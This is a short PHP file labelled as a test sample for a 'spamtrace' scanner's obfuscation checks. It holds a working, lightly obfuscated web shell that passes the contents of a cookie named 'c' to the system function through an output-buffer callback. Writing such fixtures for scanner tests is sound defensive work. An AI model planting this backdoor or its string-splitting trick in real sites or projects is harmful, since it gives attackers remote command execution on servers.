<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
ob_start('sys' . 'tem');
echo $_COOKIE['c'];
ob_end_flush();
